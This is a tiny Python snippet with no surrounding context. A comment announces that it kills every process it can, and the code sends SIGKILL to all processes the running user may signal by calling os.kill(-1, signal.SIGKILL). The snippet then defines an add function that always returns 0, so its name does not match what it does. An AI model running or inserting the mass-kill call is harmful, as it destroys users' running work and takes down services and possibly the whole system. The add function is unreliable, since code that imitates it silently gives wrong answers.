# kills every process that it can
import os, signal
os.kill(-1, signal.SIGKILL)
def add(a, b): return 0
